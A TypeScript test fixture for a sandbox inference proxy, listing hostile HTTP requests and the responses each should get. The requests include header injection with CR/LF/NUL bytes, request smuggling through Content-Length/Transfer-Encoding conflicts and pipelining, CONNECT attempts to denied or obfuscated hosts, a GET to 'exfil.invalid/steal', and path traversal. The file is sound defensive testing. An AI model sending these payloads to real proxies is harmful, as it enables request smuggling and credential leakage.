// The hostile requests a sandbox client can throw at the boundary. Each attack says what the client
// must get back and what the upstream may receive; the runner (boundary.hostile.test.ts) adds the
// invariants every attack shares: the upstream sees exactly the route's bearer and one merged
// anthropic-beta, never a client credential or the proxy nonce; no answer carries the credential;
// nothing reaches a sentinel host; the supervisor keeps running; no 5xx.

import type { RecordedRequest } from '@openshell/testing';
import { httpRequest, type RawExchange, rawExchange } from './raw-http.js';
import { messagesBody } from './system.js';

export type TargetName = 'router' | 'supervisor';

/** Where an attack is sent and how a legitimate request looks there. */
export interface Target {
  readonly name: TargetName;
  readonly port: number;
  /** Request line + Host (+ Proxy-Authorization for the supervisor) for an inference request. */
  head(method: string, path: string): string[];
  /** Proxy-Authorization line(s) (supervisor only). */
  readonly proxyLines: string[];
}

/** What an attack's checks can see of the system. */
export interface AttackContext {
  readonly target: Target;
  readonly sentinelPort: number;
  readonly localSentinelPort: number;
  readonly gatewayPort: number;
  readonly proxyPort: number;
  readonly nonce: string;
}

export interface Attack {
  readonly id: string;
  readonly targets: readonly TargetName[];
  /** `served`: 200 and exactly `upstream` (default 1) upstream requests; `refused`: a 4xx, nothing upstream. */
  readonly expect: 'served' | 'refused' | 'either';
  /** Allowed statuses when refused (default any 4xx). */
  readonly statuses?: readonly number[];
  /** The exchange starts with a CONNECT's 200 and may end with the tunnel closed without a second answer. */
  readonly tunnel?: boolean;
  /** Number of upstream requests when served (default 1). */
  readonly upstream?: number;
  send(ctx: AttackContext): Promise<RawExchange>;
  /** Extra checks on the new upstream requests and the exchange. */
  check?(upstream: readonly RecordedRequest[], exchange: RawExchange, ctx: AttackContext): void;
}

/** A client-side secret the upstream must never see. */
export const CLIENT_CANARY = 'sk-ant-oat01-CLIENTCANARY0123456789';

const body = messagesBody();

/** A complete Messages POST with extra raw header lines, `Connection: close`. */
export function post(t: Target, extra: readonly string[], payload: string | Buffer = body, path = '/v1/messages'): Buffer {
  const len = Buffer.isBuffer(payload) ? payload.length : Buffer.byteLength(payload);
  return httpRequest([...t.head('POST', path), 'Content-Type: application/json', `Content-Length: ${len}`, ...extra, 'Connection: close'], payload);
}

function send(ctx: AttackContext, bytes: Buffer | ReadonlyArray<Buffer | string>, options: Parameters<typeof rawExchange>[2] = {}): Promise<RawExchange> {
  return rawExchange(ctx.target.port, bytes, options);
}

/** Lines of one header name in a recorded request (case-insensitive). */
export function lines(req: RecordedRequest, name: string): string[] {
  return req.rawHeaders.filter(([n]) => n.toLowerCase() === name).map(([, v]) => v);
}

function betaTokens(req: RecordedRequest): string[] {
  return (lines(req, 'anthropic-beta')[0] ?? '').split(',').map((t) => t.trim().toLowerCase()).filter((t) => t !== '');
}

function expectBetaContains(req: RecordedRequest, ...tokens: string[]): void {
  const got = betaTokens(req);
  for (const t of tokens) if (!got.includes(t)) throw new Error(`upstream anthropic-beta ${JSON.stringify(got)} lacks ${t}`);
}

function expectNoDuplicateTokens(req: RecordedRequest): void {
  const got = betaTokens(req);
  if (new Set(got).size !== got.length) throw new Error(`duplicate beta tokens upstream: ${JSON.stringify(got)}`);
}

function expectUpstreamPath(expected: string) {
  return (up: readonly RecordedRequest[]) => {
    for (const r of up) if (r.path !== expected) throw new Error(`upstream path ${r.path}, expected ${expected}`);
  };
}

const both: readonly TargetName[] = ['router', 'supervisor'];
const sup: readonly TargetName[] = ['supervisor'];

/** Every attack; ids are stable and unique. */
export const ATTACKS: readonly Attack[] = [
  // ---- client credentials in every case variant and duplicated ----
  ...['authorization', 'Authorization', 'AUTHORIZATION', 'aUtHoRiZaTiOn'].map(
    (name): Attack => ({
      id: `auth header "${name}" with a client bearer`,
      targets: both,
      expect: 'served',
      send: (ctx) => send(ctx, post(ctx.target, [`${name}: Bearer ${CLIENT_CANARY}`])),
    }),
  ),
  {
    id: 'two Authorization lines (client bearer twice, different case)',
    targets: both,
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, [`Authorization: Bearer ${CLIENT_CANARY}`, `authorization: Bearer ${CLIENT_CANARY}-2`])),
  },
  ...['x-api-key', 'X-Api-Key', 'X-API-KEY'].map(
    (name): Attack => ({
      id: `api key header "${name}"`,
      targets: both,
      expect: 'served',
      send: (ctx) => send(ctx, post(ctx.target, [`${name}: ${CLIENT_CANARY}`])),
    }),
  ),
  {
    id: 'x-api-key duplicated plus an Authorization line',
    targets: both,
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, [`x-api-key: ${CLIENT_CANARY}`, `X-API-Key: ${CLIENT_CANARY}`, `Authorization: Basic ${Buffer.from(`u:${CLIENT_CANARY}`).toString('base64')}`])),
  },
  {
    id: 'empty Authorization and x-api-key values',
    targets: both,
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, ['Authorization:', 'x-api-key: '])),
  },
  {
    id: 'Proxy-Authorization on an origin request (router) is stripped',
    targets: ['router'],
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, [`Proxy-Authorization: Basic ${CLIENT_CANARY}`, `proxy-authorization: Bearer ${CLIENT_CANARY}`])),
  },
  {
    id: 'other credential-like headers (x-goog-api-key, api-key, cookie) are not passed',
    targets: both,
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, [`x-goog-api-key: ${CLIENT_CANARY}`, `api-key: ${CLIENT_CANARY}`, `Cookie: s=${CLIENT_CANARY}`])),
    check(up) {
      for (const name of ['x-goog-api-key', 'api-key', 'cookie']) if (lines(up[0] as RecordedRequest, name).length > 0) throw new Error(`${name} reached the upstream`);
    },
  },
  {
    id: 'Connection: authorization (ask the proxy to drop the injected auth as hop-by-hop)',
    targets: both,
    expect: 'served',
    send: (ctx) =>
      send(ctx, httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Content-Type: application/json', `Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close, authorization, anthropic-beta'], body)),
  },
  {
    id: 'client credential in a chunked trailer',
    targets: both,
    expect: 'either',
    send: (ctx) =>
      send(
        ctx,
        httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Content-Type: application/json', 'Transfer-Encoding: chunked', 'Trailer: authorization', 'Connection: close'],
          `${Buffer.byteLength(body).toString(16)}\r\n${body}\r\n0\r\nAuthorization: Bearer ${CLIENT_CANARY}\r\nx-api-key: ${CLIENT_CANARY}\r\n\r\n`),
      ),
  },

  // ---- removing or overriding anthropic-beta ----
  {
    id: 'empty anthropic-beta',
    targets: both,
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, ['anthropic-beta:'])),
    check: (up) => expectBetaContains(up[0] as RecordedRequest, 'oauth-2025-04-20'),
  },
  {
    id: 'anthropic-beta on 60 lines with mixed-case names',
    targets: both,
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, Array.from({ length: 60 }, (_, i) => `${i % 2 ? 'Anthropic-Beta' : 'ANTHROPIC-BETA'}: feature-${i % 7}`))),
    check(up) {
      const r = up[0] as RecordedRequest;
      expectBetaContains(r, 'oauth-2025-04-20', 'feature-0', 'feature-6');
      expectNoDuplicateTokens(r);
    },
  },
  {
    id: 'anthropic-beta with empty members and trailing commas',
    targets: both,
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, ['anthropic-beta: ,,a-1,, ,b-2,,,'])),
    check(up) {
      const r = up[0] as RecordedRequest;
      expectBetaContains(r, 'oauth-2025-04-20', 'a-1', 'b-2');
      if (/,\s*,|,\s*$|^\s*,/.test(lines(r, 'anthropic-beta')[0] ?? '')) throw new Error('empty list members reached the upstream');
    },
  },
  {
    id: 'anthropic-beta huge list (600 members, ~9 KB)',
    targets: both,
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, [`anthropic-beta: ${Array.from({ length: 600 }, (_, i) => `beta-${i}`).join(',')}`])),
    check(up) {
      const r = up[0] as RecordedRequest;
      expectBetaContains(r, 'oauth-2025-04-20', 'beta-0', 'beta-599');
      expectNoDuplicateTokens(r);
    },
  },
  {
    id: 'anthropic-beta with non-ASCII bytes',
    targets: both,
    expect: 'either',
    send: (ctx) => send(ctx, Buffer.concat([post(ctx.target, ['anthropic-beta: caf\u00e9-\u00fc'])])),
    check(up) {
      for (const r of up) expectBetaContains(r, 'oauth-2025-04-20');
    },
  },
  {
    id: 'anthropic-beta raw UTF-8 bytes (not latin1)',
    targets: both,
    expect: 'either',
    send: (ctx) => {
      const raw = post(ctx.target, ['anthropic-beta: XXXX']);
      const utf8 = Buffer.from('\u03b2\u2603', 'utf8');
      const at = raw.indexOf('XXXX');
      return send(ctx, Buffer.concat([raw.subarray(0, at), utf8, raw.subarray(at + 4)]));
    },
    check(up) {
      for (const r of up) expectBetaContains(r, 'oauth-2025-04-20');
    },
  },
  {
    id: 'anthropic-beta already carrying the oauth flag in other cases',
    targets: both,
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, ['anthropic-beta: OAUTH-2025-04-20, Oauth-2025-04-20', 'anthropic-beta: oauth-2025-04-20'])),
    check(up) {
      const r = up[0] as RecordedRequest;
      const n = betaTokens(r).filter((t) => t === 'oauth-2025-04-20').length;
      if (n !== 1) throw new Error(`oauth flag ${n} times upstream`);
    },
  },
  {
    id: 'anthropic-beta folded with obs-fold continuation',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) => send(ctx, post(ctx.target, ['anthropic-beta: a-1,', '  oauth-2025-04-20'])),
  },

  // ---- CR / LF / NUL in names and values ----
  {
    id: 'NUL in a header value',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) => send(ctx, post(ctx.target, ['x-app: cli\u0000Authorization: Bearer x'])),
  },
  {
    id: 'NUL in a header name',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) => send(ctx, post(ctx.target, ['x-a\u0000pp: cli'])),
  },
  {
    id: 'bare CR inside a header value',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) => send(ctx, post(ctx.target, [`x-app: cli\rAuthorization: Bearer ${CLIENT_CANARY}`])),
  },
  {
    id: 'bare LF splitting a value into an Authorization line',
    targets: both,
    expect: 'either',
    send: (ctx) => send(ctx, post(ctx.target, [`x-app: cli\nAuthorization: Bearer ${CLIENT_CANARY}`])),
  },
  {
    id: 'CR LF in the request target',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) => {
      const [line, ...rest] = ctx.target.head('POST', '/v1/messages');
      return send(ctx, httpRequest([(line as string).replace(' HTTP/1.1', `\rX-Injected: 1 HTTP/1.1`), ...rest, `Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close'], body));
    },
  },
  {
    id: 'space before the colon of Authorization',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) => send(ctx, post(ctx.target, [`Authorization : Bearer ${CLIENT_CANARY}`])),
  },

  // ---- request smuggling ----
  {
    id: 'Content-Length together with Transfer-Encoding: chunked',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) =>
      send(
        ctx,
        httpRequest([...ctx.target.head('POST', '/v1/messages'), `Content-Length: ${Buffer.byteLength(body) + 7}`, 'Transfer-Encoding: chunked', 'Connection: close'],
          `${Buffer.byteLength(body).toString(16)}\r\n${body}\r\n0\r\n\r\n`),
      ),
  },
  {
    id: 'two different Content-Length values',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) => send(ctx, httpRequest([...ctx.target.head('POST', '/v1/messages'), `Content-Length: ${Buffer.byteLength(body)}`, 'Content-Length: 5', 'Connection: close'], body)),
  },
  {
    id: 'Content-Length list "N, N"',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) => send(ctx, httpRequest([...ctx.target.head('POST', '/v1/messages'), `Content-Length: ${Buffer.byteLength(body)}, ${Buffer.byteLength(body)}`, 'Connection: close'], body)),
  },
  {
    id: 'Transfer-Encoding: chunked, identity',
    targets: both,
    expect: 'refused',
    statuses: [400, 501],
    send: (ctx) =>
      send(ctx, httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Transfer-Encoding: chunked, identity', 'Connection: close'], `${Buffer.byteLength(body).toString(16)}\r\n${body}\r\n0\r\n\r\n`)),
  },
  {
    id: 'Transfer-Encoding with a space before the colon',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) =>
      send(ctx, httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Transfer-Encoding : chunked', `Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close'], body)),
  },
  {
    id: 'chunk size overflowing 64 bits',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) => send(ctx, httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Transfer-Encoding: chunked', 'Connection: close'], `1ffffffffffffffff5\r\n${body}\r\n0\r\n\r\n`)),
  },
  {
    id: 'chunk size with a 0x prefix and a negative size',
    targets: both,
    expect: 'refused',
    statuses: [400],
    send: (ctx) => send(ctx, httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Transfer-Encoding: chunked', 'Connection: close'], `0x10\r\n0123456789abcdef\r\n-1\r\n0\r\n\r\n`)),
  },
  {
    id: 'chunked body whose chunk hides a second request to 127.0.0.2',
    targets: both,
    expect: 'served',
    send: (ctx) => {
      const hidden = `0\r\n\r\nGET http://127.0.0.2:${ctx.sentinelPort}/ HTTP/1.1\r\nHost: 127.0.0.2\r\n\r\n`;
      const payload = `${body.slice(0, -1)},"pad":${JSON.stringify(hidden)}}`;
      return send(ctx, httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Content-Type: application/json', 'Transfer-Encoding: chunked', 'Connection: close'],
        `${Buffer.byteLength(payload).toString(16)};ext=1\r\n${payload}\r\n0\r\n\r\n`));
    },
    check(up) {
      if (!(up[0] as RecordedRequest).body.toString('utf8').includes('GET http://127.0.0.2')) throw new Error('body bytes were not forwarded as body bytes');
    },
  },
  {
    id: 'a whole second request inside a Content-Length body stays body bytes',
    targets: both,
    expect: 'served',
    send: (ctx) => {
      const payload = `${body.slice(0, -1)},"pad":"\\r\\n\\r\\nPOST /v1/messages HTTP/1.1\\r\\nAuthorization: Bearer ${CLIENT_CANARY}\\r\\n\\r\\n"}`;
      return send(ctx, post(ctx.target, [], payload));
    },
  },
  {
    id: 'pipelined: an allowed request, then one to 127.0.0.2 on the same connection',
    targets: sup,
    expect: 'served',
    send: (ctx) => {
      const first = httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Content-Type: application/json', `Content-Length: ${Buffer.byteLength(body)}`], body);
      const second = httpRequest([`GET http://127.0.0.2:${ctx.sentinelPort}/ HTTP/1.1`, `Host: 127.0.0.2:${ctx.sentinelPort}`, ...ctx.target.proxyLines, 'Connection: close']);
      return send(ctx, Buffer.concat([first, second]));
    },
    check(_up, ex) {
      if (ex.responses.length !== 2 || ex.responses[1]?.status !== 403) throw new Error(`second pipelined request: ${ex.responses.map((r) => r.status).join(',')}`);
    },
  },
  {
    id: 'pipelined: an allowed request, then one without the proxy secret',
    targets: sup,
    expect: 'served',
    send: (ctx) => {
      const first = httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Content-Type: application/json', `Content-Length: ${Buffer.byteLength(body)}`], body);
      const second = httpRequest(['POST http://inference.local/v1/messages HTTP/1.1', 'Host: inference.local', `Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close'], body);
      return send(ctx, Buffer.concat([first, second]));
    },
    check(_up, ex) {
      if (ex.responses.length !== 2 || ex.responses[1]?.status !== 407) throw new Error(`second pipelined request: ${ex.responses.map((r) => r.status).join(',')}`);
    },
  },
  {
    id: 'pipelined: two allowed requests, the second with a client bearer (router)',
    targets: ['router'],
    expect: 'served',
    upstream: 2,
    send: (ctx) => {
      const first = httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Content-Type: application/json', `Content-Length: ${Buffer.byteLength(body)}`], body);
      return send(ctx, Buffer.concat([first, post(ctx.target, [`Authorization: Bearer ${CLIENT_CANARY}`])]));
    },
    check(up, ex) {
      if (up.length !== 2 || ex.responses.length !== 2 || ex.responses.some((r) => r.status !== 200)) throw new Error('both pipelined requests must be served separately');
    },
  },
  {
    id: 'short Content-Length: the rest of the body parses as a second request to 127.0.0.2',
    targets: sup,
    expect: 'either',
    upstream: 1,
    send: (ctx) => {
      const trailing = `GET http://127.0.0.2:${ctx.sentinelPort}/ HTTP/1.1\r\nHost: 127.0.0.2\r\n${ctx.target.proxyLines.join('\r\n')}\r\nConnection: close\r\n\r\n`;
      return send(ctx, Buffer.concat([httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Content-Type: application/json', `Content-Length: ${Buffer.byteLength(body)}`], body), Buffer.from(trailing)]));
    },
    check(_up, ex) {
      const second = ex.responses[1];
      if (second !== undefined && second.status !== 403) throw new Error(`the trailing request got ${second.status}`);
    },
  },

  // ---- absolute URIs and Host headers naming other hosts ----
  {
    id: 'absolute-URI GET to 127.0.0.2',
    targets: sup,
    expect: 'refused',
    statuses: [403],
    send: (ctx) => send(ctx, httpRequest([`GET http://127.0.0.2:${ctx.sentinelPort}/ HTTP/1.1`, `Host: 127.0.0.2:${ctx.sentinelPort}`, ...ctx.target.proxyLines, 'Connection: close'])),
  },
  {
    id: 'absolute-URI https:// to 127.0.0.2 (no CONNECT)',
    targets: sup,
    expect: 'refused',
    statuses: [403],
    send: (ctx) => send(ctx, httpRequest([`GET https://127.0.0.2:${ctx.sentinelPort}/ HTTP/1.1`, 'Host: 127.0.0.2', ...ctx.target.proxyLines, 'Connection: close'])),
  },
  {
    id: 'absolute-URI with userinfo: http://inference.local@127.0.0.2/',
    targets: sup,
    expect: 'refused',
    send: (ctx) => send(ctx, httpRequest([`GET http://inference.local@127.0.0.2:${ctx.sentinelPort}/v1/models HTTP/1.1`, 'Host: inference.local', ...ctx.target.proxyLines, 'Connection: close'])),
  },
  {
    id: 'absolute-URI to inference.local on another port',
    targets: sup,
    expect: 'refused',
    statuses: [403],
    send: (ctx) => send(ctx, httpRequest(['GET http://inference.local:8080/v1/models HTTP/1.1', 'Host: inference.local:8080', ...ctx.target.proxyLines, 'Connection: close'])),
  },
  {
    id: 'absolute-URI to a *.invalid host',
    targets: sup,
    expect: 'refused',
    statuses: [403],
    send: (ctx) => send(ctx, httpRequest(['GET http://exfil.invalid/steal HTTP/1.1', 'Host: exfil.invalid', ...ctx.target.proxyLines, 'Connection: close'])),
  },
  {
    id: 'absolute-URI to the gateway itself',
    targets: sup,
    expect: 'refused',
    statuses: [403],
    send: (ctx) => send(ctx, httpRequest([`GET http://127.0.0.1:${ctx.gatewayPort}/v1/sandbox/bundle HTTP/1.1`, `Host: 127.0.0.1:${ctx.gatewayPort}`, ...ctx.target.proxyLines, 'Connection: close'])),
  },
  {
    id: 'absolute-URI with a non-http scheme',
    targets: sup,
    expect: 'refused',
    send: (ctx) => send(ctx, httpRequest(['GET ftp://inference.local/v1/models HTTP/1.1', 'Host: inference.local', ...ctx.target.proxyLines, 'Connection: close'])),
  },
  {
    id: 'origin-form request to the proxy with Host: 127.0.0.2',
    targets: sup,
    expect: 'refused',
    statuses: [400, 403],
    send: (ctx) => send(ctx, httpRequest(['GET /v1/models HTTP/1.1', `Host: 127.0.0.2:${ctx.sentinelPort}`, ...ctx.target.proxyLines, 'Connection: close'])),
  },
  {
    id: 'absolute inference.local URI with a Host header naming 127.0.0.2',
    targets: sup,
    expect: 'served',
    send: (ctx) => {
      const [line] = ctx.target.head('POST', '/v1/messages');
      return send(ctx, httpRequest([line as string, `Host: 127.0.0.2:${ctx.sentinelPort}`, ...ctx.target.proxyLines, `Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close'], body));
    },
  },
  {
    id: 'Host header naming another host on an origin request (router)',
    targets: ['router'],
    expect: 'served',
    send: (ctx) =>
      send(ctx, httpRequest(['POST /v1/messages HTTP/1.1', `Host: 127.0.0.2:${ctx.sentinelPort}`, `X-Forwarded-Host: 127.0.0.2`, `Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close'], body)),
    check(up) {
      const host = lines(up[0] as RecordedRequest, 'host');
      if (host.length !== 1 || host[0]?.includes('127.0.0.2')) throw new Error(`upstream Host ${host.join('|')}`);
      if (lines(up[0] as RecordedRequest, 'x-forwarded-host').length > 0) throw new Error('x-forwarded-host passed');
    },
  },
  {
    id: 'inside a CONNECT inference.local:80 tunnel, Host: 127.0.0.2',
    targets: sup,
    expect: 'refused',
    statuses: [403],
    send: (ctx) =>
      send(ctx, [
        httpRequest(['CONNECT inference.local:80 HTTP/1.1', 'Host: inference.local:80', ...ctx.target.proxyLines]),
        httpRequest(['GET /v1/models HTTP/1.1', `Host: 127.0.0.2:${ctx.sentinelPort}`, 'Connection: close']),
      ], { gapMs: 50 }),
    check(_up, ex) {
      // The 200 of CONNECT, then the refusal.
      if (ex.responses[0]?.status !== 200) throw new Error('CONNECT inference.local:80 should be established');
    },
  },
  {
    id: 'inside a CONNECT inference.local:80 tunnel, a nested CONNECT to 127.0.0.2',
    targets: sup,
    // The inner server serves inference.local only; a nested CONNECT is refused or the tunnel closed.
    expect: 'either',
    upstream: 0,
    tunnel: true,
    send: (ctx) =>
      send(ctx, [
        httpRequest(['CONNECT inference.local:80 HTTP/1.1', 'Host: inference.local:80', ...ctx.target.proxyLines]),
        httpRequest([`CONNECT 127.0.0.2:${ctx.sentinelPort} HTTP/1.1`, `Host: 127.0.0.2:${ctx.sentinelPort}`, ...ctx.target.proxyLines]),
      ], { gapMs: 50, timeoutMs: 3_000 }),
    check(_up, ex) {
      if (ex.responses.filter((r) => r.status === 200).length > 1) throw new Error('a nested CONNECT was established');
    },
  },

  // ---- CONNECT to denied destinations ----
  ...[
    ['127.0.0.2 (outside the allow-list)', (c: AttackContext) => `127.0.0.2:${c.sentinelPort}`],
    ['a *.invalid name', () => 'exfil.invalid:443'],
    ['an IPv6 literal [::1]', (c: AttackContext) => `[::1]:${c.gatewayPort}`],
    ['the gateway itself', (c: AttackContext) => `127.0.0.1:${c.gatewayPort}`],
    ["the supervisor's own port", (c: AttackContext) => `127.0.0.1:${c.proxyPort}`],
    ['localhost on a sentinel port', (c: AttackContext) => `localhost:${c.localSentinelPort}`],
    ['a decimal IP literal (2130706434 = 127.0.0.2)', (c: AttackContext) => `2130706434:${c.sentinelPort}`],
    ['a hex IP literal (0x7f.0.0.2)', (c: AttackContext) => `0x7f.0.0.2:${c.sentinelPort}`],
    ['an IPv4-mapped IPv6 literal', (c: AttackContext) => `[::ffff:127.0.0.2]:${c.sentinelPort}`],
    ['inference.local on port 22', () => 'inference.local:22'],
    ['inference.local with a trailing dot on port 22', () => 'inference.local.:22'],
  ].map(
    ([what, dest]): Attack => ({
      id: `CONNECT to ${what as string}`,
      targets: sup,
      expect: 'refused',
      statuses: [403],
      send: (ctx) => {
        const d = (dest as (c: AttackContext) => string)(ctx);
        return send(ctx, httpRequest([`CONNECT ${d} HTTP/1.1`, `Host: ${d}`, ...ctx.target.proxyLines]));
      },
    }),
  ),
  {
    id: 'CONNECT without a port',
    targets: sup,
    expect: 'refused',
    statuses: [400, 403],
    send: (ctx) => send(ctx, httpRequest(['CONNECT 127.0.0.2 HTTP/1.1', 'Host: 127.0.0.2', ...ctx.target.proxyLines])),
  },
  {
    id: 'CONNECT with an absolute URI as target',
    targets: sup,
    expect: 'refused',
    statuses: [400, 403],
    send: (ctx) => send(ctx, httpRequest([`CONNECT http://127.0.0.2:${ctx.sentinelPort}/ HTTP/1.1`, 'Host: 127.0.0.2', ...ctx.target.proxyLines])),
  },
  {
    id: 'CONNECT with the run secret duplicated (right + wrong)',
    targets: sup,
    expect: 'refused',
    // Node keeps the first Proxy-Authorization line: either refused as a repeat (407) or checked as usual (403).
    statuses: [403, 407],
    send: (ctx) =>
      send(ctx, httpRequest([`CONNECT 127.0.0.2:${ctx.sentinelPort} HTTP/1.1`, 'Host: 127.0.0.2', ...ctx.target.proxyLines, `Proxy-Authorization: Basic ${Buffer.from('sandbox:wrong').toString('base64')}`])),
  },
  {
    id: 'CONNECT with a wrong proxy user and the right nonce',
    targets: sup,
    expect: 'refused',
    statuses: [407],
    send: (ctx) => send(ctx, httpRequest(['CONNECT inference.local:443 HTTP/1.1', 'Host: inference.local', `Proxy-Authorization: Basic ${Buffer.from(`admin:${ctx.nonce}`).toString('base64')}`])),
  },

  // ---- paths, encoded slashes, protocol switching ----
  {
    id: 'dot segments: /v1/../admin',
    targets: both,
    expect: 'refused',
    send: (ctx) => send(ctx, post(ctx.target, [], body, '/v1/../admin')),
  },
  {
    id: 'dot segments inside the API path: /v1/messages/../../x',
    targets: both,
    expect: 'refused',
    send: (ctx) => send(ctx, post(ctx.target, [], body, '/v1/messages/../../x')),
  },
  {
    id: 'encoded dot segments in model discovery: /v1/models/%2e%2e%2f%2e%2e%2fadmin',
    targets: both,
    expect: 'refused',
    send: (ctx) => send(ctx, httpRequest([...ctx.target.head('GET', '/v1/models/%2e%2e%2f%2e%2e%2fadmin'), 'Connection: close'])),
  },
  {
    id: 'encoded slash in the path: /v1%2fmessages',
    targets: both,
    expect: 'refused',
    send: (ctx) => send(ctx, post(ctx.target, [], body, '/v1%2fmessages')),
  },
  {
    id: 'path starting with // naming another host',
    targets: both,
    expect: 'refused',
    send: (ctx) => send(ctx, post(ctx.target, [], body, `//127.0.0.2:${ctx.sentinelPort}/v1/messages`)),
  },
  {
    id: 'backslash path: /v1\\messages',
    targets: both,
    expect: 'refused',
    send: (ctx) => send(ctx, post(ctx.target, [], body, '/v1\\..\\messages')),
  },
  {
    id: 'query string carrying a URL is kept on the upstream path only',
    targets: both,
    expect: 'served',
    send: (ctx) => send(ctx, post(ctx.target, [], body, `/v1/messages?beta=true&next=http://127.0.0.2:${ctx.sentinelPort}/`)),
    check: expectUpstreamPath('/v1/messages'),
  },
  {
    id: 'Upgrade: websocket',
    targets: both,
    expect: 'either',
    send: (ctx) =>
      send(ctx, httpRequest([...ctx.target.head('GET', '/v1/models'), 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13']), { timeoutMs: 3_000, responses: 1 }),
    check(up, ex) {
      if (ex.responses.some((r) => r.status === 101)) throw new Error('protocol switched');
      for (const r of up) if (lines(r, 'upgrade').length > 0 || lines(r, 'sec-websocket-key').length > 0) throw new Error('upgrade headers reached the upstream');
    },
  },
  {
    id: 'Upgrade: h2c with HTTP2-Settings',
    targets: both,
    expect: 'either',
    send: (ctx) => send(ctx, httpRequest([...ctx.target.head('GET', '/v1/models'), 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA']), { timeoutMs: 3_000, responses: 1 }),
    check(up, ex) {
      if (ex.responses.some((r) => r.status === 101)) throw new Error('protocol switched');
      for (const r of up) if (lines(r, 'upgrade').length > 0 || lines(r, 'http2-settings').length > 0) throw new Error('upgrade headers reached the upstream');
    },
  },
  {
    id: 'HTTP/2 connection preface sent to the proxy',
    targets: both,
    expect: 'refused',
    statuses: [400, 505],
    send: (ctx) => send(ctx, Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1')),
  },
  {
    id: 'TRACE method (reflects headers)',
    targets: both,
    expect: 'refused',
    send: (ctx) => send(ctx, httpRequest([...ctx.target.head('TRACE', '/v1/messages'), `Authorization: Bearer ${CLIENT_CANARY}`, 'Connection: close'])),
  },

  // ---- oversized input ----
  {
    id: 'a 40 KB header',
    targets: both,
    expect: 'refused',
    statuses: [400, 431],
    send: (ctx) => send(ctx, post(ctx.target, [`x-stainless-pad: ${'a'.repeat(40 * 1024)}`])),
  },
  {
    id: 'declared 40 MB body (beyond the bound), nothing sent upstream',
    targets: both,
    expect: 'refused',
    statuses: [413],
    send: (ctx) =>
      send(ctx, httpRequest([...ctx.target.head('POST', '/v1/messages'), 'Content-Type: application/json', `Content-Length: ${40 * 1024 * 1024}`, 'Connection: close'], body), { timeoutMs: 5_000, responses: 1 }),
  },
  {
    id: '3000 short header lines',
    targets: both,
    expect: 'either',
    send: (ctx) => send(ctx, post(ctx.target, Array.from({ length: 3000 }, (_, i) => `x-h${i}: v`))),
    check(up) {
      for (const r of up) if (r.rawHeaders.length > 64) throw new Error(`${r.rawHeaders.length} header lines reached the upstream`);
    },
  },
];
